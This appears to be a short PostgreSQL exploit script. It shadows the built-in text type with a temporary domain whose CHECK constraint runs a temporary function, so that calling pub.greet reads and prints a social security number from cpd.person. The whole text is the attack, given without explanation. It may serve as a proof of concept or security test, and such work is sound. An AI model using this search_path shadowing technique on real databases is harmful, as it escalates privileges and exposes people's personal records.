CREATE FUNCTION pg_temp.show() RETURNS boolean LANGUAGE plpgsql AS
$$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM cpd.person WHERE id = 1); RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.show());
SELECT pub.greet('x');
